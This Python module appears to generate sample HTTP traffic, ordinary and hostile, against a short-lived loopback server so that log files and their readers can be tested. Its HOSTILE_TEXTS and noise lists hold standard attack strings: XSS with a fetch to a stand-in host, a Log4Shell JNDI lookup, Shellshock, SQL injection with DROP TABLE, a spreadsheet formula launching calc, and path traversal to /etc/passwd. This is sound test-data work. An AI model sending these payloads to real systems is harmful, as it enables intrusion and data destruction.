"""The requests that make_samples.py sends: ordinary ones, and those that servers on the Internet really receive."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator
from typing import NamedTuple

PASSWORD = "not-a-secret"  # of a server that runs for a few minutes on loopback
USERS = ("alice", "bob.b", "jane doe", 'o"hara', "zoë@example.com")

HOSTS = (
    *(f"192.0.2.{n}" for n in (1, 7, 23, 42, 42, 42, 77, 101, 200)),
    *(f"198.51.100.{n}" for n in (4, 9, 9, 88, 250)),
    *(f"203.0.113.{n}" for n in (5, 66, 66, 66, 129)),
    "2001:db8::1",
    "2001:db8:85a3::8a2e:370:7334",
    "2001:db8:0:1:f00d:cafe:12:9",
)
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example.net/about)",
    "curl/8.11.0",
    "python-requests/2.32.3",
)
REFERERS = (
    "http://www.example.com/",
    "https://search.example.net/?q=log+files",
    "http://www.example.com/docs/",
    "",
    "",
    None,
)
PAGES: tuple[str, ...] = (
    "/",
    "/",
    "/",
    "/docs/",
    "/docs/install.html",
    "/about.html",
    "/shop/",
    "/shop/?page=2&sort=price",
)
PAGES += (
    "/static/site.css",
    "/static/app.js",
    "/static/logo.png",
    "/static/empty.css",
    "/docs/%C3%BCber%20uns.html",
)

Headers = dict[str, str | bytes | None]


class Request(NamedTuple):
    """The bytes of one connection. With ``leave_after`` the client disconnects so many seconds after sending them."""

    raw: bytes
    over_ipv6: bool = False
    leave_after: float | None = None


# kind → weight in an ordinary minute
WEIGHTS = {
    "page": 60, "not_modified": 8, "not_found": 6, "redirect": 4, "moved": 3, "members": 5, "forbidden": 2,
    "not_allowed": 3, "range": 2, "head": 2, "failing": 2, "post": 3, "hostile": 9, "noise": 12,
    "graphql": 12,
}  # fmt: skip


def minute_of_kinds(rng: random.Random, amount: int, burst: str | None) -> list[str]:
    """The kinds of the requests in a minute; in a minute with a burst half of them are of the burst's kind."""
    kinds = rng.choices(tuple(WEIGHTS), weights=tuple(WEIGHTS.values()), k=amount)
    if burst is not None:
        kinds[: amount // 2] = [burst] * (amount // 2)
    rng.shuffle(kinds)
    return kinds


def make(rng: random.Random, kind: str, server: str) -> Request:
    """A request of a kind for the server of that name (only nginx has a GraphQL endpoint)."""
    if kind == "hostile":
        return _hostile(rng)
    if kind == "graphql":
        return _graphql(rng) if server == "nginx" else _page(rng)
    return {
        "page": _page, "not_modified": _not_modified, "not_found": _not_found, "redirect": _redirect,
        "moved": _moved, "members": _members, "forbidden": _forbidden, "not_allowed": _not_allowed,
        "range": _range, "head": _head, "failing": _failing, "post": _post,
    }[kind](rng)  # fmt: skip


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def _request(
    rng: random.Random, method: str, target: str | bytes, headers: Headers | None = None, body: bytes = b""
) -> Request:
    """A well-formed HTTP/1.1 request of a fictitious client. A header whose value is None is omitted."""
    fields: Headers = {
        "Host": "www.example.com",
        "X-Forwarded-For": rng.choice(HOSTS),
        "User-Agent": rng.choice(AGENTS),
        "Referer": rng.choice(REFERERS),
        "Connection": "close",
    }
    if body:
        fields["Content-Length"] = str(len(body))
    fields |= headers or {}
    lines = [b"%s %s HTTP/1.1" % (method.encode(), _bytes(target))]
    lines += [b"%s: %s" % (name.encode(), _bytes(value)) for name, value in fields.items() if value is not None]
    return Request(b"\r\n".join(lines) + b"\r\n\r\n" + body, over_ipv6=rng.random() < 0.1)


def _page(rng: random.Random) -> Request:
    return _request(rng, "GET", rng.choice(PAGES))


def _not_modified(rng: random.Random) -> Request:
    headers: Headers = {"If-Modified-Since": "Fri, 31 Dec 2021 23:59:59 GMT", "Cache-Control": "max-age=0"}
    return _request(rng, "GET", rng.choice(("/static/app.js", "/static/site.css", "/static/logo.png")), headers)


NOT_THERE = (
    "/favicon.ico", "/wp-login.php", "/.env", "/.git/config", "/docs/old.html", "/phpmyadmin/index.php", "/robots.txt",
    "/cgi-bin/luci/;stok=/locale", "/%E6%97%A5%E6%9C%AC.html", "/?x=/../../etc/passwd/x", "/shop/item/{item}",
)  # fmt: skip


def _not_found(rng: random.Random) -> Request:
    return _request(rng, "GET", rng.choice(NOT_THERE).format(item=rng.randrange(1000)))


def _redirect(rng: random.Random) -> Request:
    return _request(rng, "GET", rng.choice(("/docs", "/shop", "/members")))


def _moved(rng: random.Random) -> Request:
    return _request(rng, "GET", "/old?from=mail")


def _members(rng: random.Random) -> Request:
    password = PASSWORD if rng.random() < 0.7 else "wrong"
    token = base64.b64encode(f"{rng.choice(USERS)}:{password}".encode()).decode()
    return _request(rng, "GET", "/members/", {"Authorization": f"Basic {token}" if rng.random() < 0.9 else None})


def _forbidden(rng: random.Random) -> Request:
    return _request(rng, "GET", "/secret/plan.html")


def _not_allowed(rng: random.Random) -> Request:
    return _request(rng, rng.choice(("DELETE", "POST", "PUT", "PATCH")), "/static/site.css")


def _range(rng: random.Random) -> Request:
    return _request(rng, "GET", "/static/app.js", {"Range": rng.choice(("bytes=0-99", "bytes=500-", "bytes=999999-"))})


def _head(rng: random.Random) -> Request:
    return _request(rng, "HEAD", rng.choice(PAGES))


def _failing(rng: random.Random) -> Request:
    return _request(rng, "GET", rng.choice(("/api/v1/orders", "/api/v1/orders?id=7", "/broken/x.html")))


def _post(rng: random.Random) -> Request:
    body = b"x=1&y=2" if rng.random() < 0.7 else b"z" * 3000
    return _request(rng, "POST", "/shop/", {"Content-Type": "application/x-www-form-urlencoded"}, body)


def _graphql(rng: random.Random) -> Request:
    headers: Headers = {
        "X-Graphql": rng.choice(
            (
                "query user userMessages hasPermissions F0 F1",
                "mutation addItem",
                "query items F0",
                'query "q"',
            )
        ),
        "X-Company": rng.choice(("11111", "22222", "33333")),
        "X-User": str(rng.randrange(200000, 200050)) if rng.random() < 0.95 else None,
    }
    return _request(rng, rng.choice(("POST", "POST", "GET")), "/graphql", headers, b'{"query":"{user{id}}"}')


# Values of headers and targets: scripts that attack the log's readers, quotes, escapes, bytes.
HOSTILE_TEXTS: tuple[str | bytes, ...] = (
    '"><script>document.title="owned"</script>',
    "<img src=x onerror=alert(1)>",
    "</script><svg/onload=fetch('//203.0.113.66/x')>",
    'Mozilla/5.0 "quoted" agent \\ with a backslash',
    "${jndi:ldap://203.0.113.66/a}",
    "() { :;}; echo shellshock",
    "' OR 1=1; DROP TABLE requests; --",
    "=cmd|' /C calc'!A0",
    "{{7*7}} %{7*7} #{7*7}",
    b"\xff\xfe\x80 not UTF-8",
    "Müller-Browser/1.0 (日本語; \u202egnp.exe)",
    "\u2028line separator\u0085next line",
    "tab\there",
    "-",
    "Mozilla/5.0 (" + "very long; " * 180 + '"end")',
)


def _hostile(rng: random.Random) -> Request:
    text = rng.choice(HOSTILE_TEXTS)
    position = rng.randrange(5)
    if position <= 1:
        return _request(rng, "GET", rng.choice(PAGES), {"User-Agent": text})
    if position == 2:
        return _request(rng, "GET", rng.choice(PAGES), {"Referer": text})
    if position == 3:
        return _request(rng, "GET", b"/search?q=" + _bytes(text))
    return _request(rng, "GET", "/", {"X-Forwarded-For": text, "User-Agent": rng.choice(("", "-"))})


TLS_HELLO = (
    bytes.fromhex("16030100c7010000c303035f")
    + bytes(range(160, 192))
    + b"\x20"
    + bytes(range(32))
    + b"\x00\x02\x13\x01"
)
NOISE = (
    Request(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"),
    Request(TLS_HELLO),
    Request(TLS_HELLO, over_ipv6=True),
    Request(b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00\r\n\r\n"),  # RDP
    Request(b"SSH-2.0-Go\r\n\r\n"),
    Request(b"GET /\r\n\r\n"),
    Request(b"GET / HTTP/1.0\r\n\r\n"),
    Request(b"GET / HTTP/9.9\r\nHost: www.example.com\r\n\r\n"),
    Request(b"BREW /pot HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n"),
    Request(b"TRACE / HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n"),
    Request(b"OPTIONS * HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n"),
    Request(b"CONNECT mail.example.net:25 HTTP/1.1\r\nHost: mail.example.net\r\n\r\n"),
    Request(b"GET http://198.51.100.9/judge HTTP/1.1\r\nHost: 198.51.100.9\r\nConnection: close\r\n\r\n"),
    Request(b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    Request(b"GET /%2e%2e/%00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    Request(b"GET / HTTP/1.1\r\n\r\n"),
    Request(b'GET /"quoted"\\path HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'),
    Request(b"\r\n\r\n\r\n", leave_after=0.1),
    Request(b"", leave_after=0.1),
    Request(b"GET / HTTP/1.1\r\nHost: half"),  # incomplete: 408
    Request(b"GET /slow/ HTTP/1.1\r\nHost: www.example.com\r\n\r\n", leave_after=0.5),  # nginx: 499
    Request(b"GET /slow/ HTTP/1.1\r\nHost: www.example.com\r\nConnection: close\r\n\r\n"),  # nginx: 504
    Request(b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),  # 414
)  # fmt: skip


def noise_in_turn(rng: random.Random) -> Iterator[Request]:
    """All noise requests in random order, again and again, so that a short run has each at least once."""
    while True:
        yield from rng.sample(NOISE, len(NOISE))
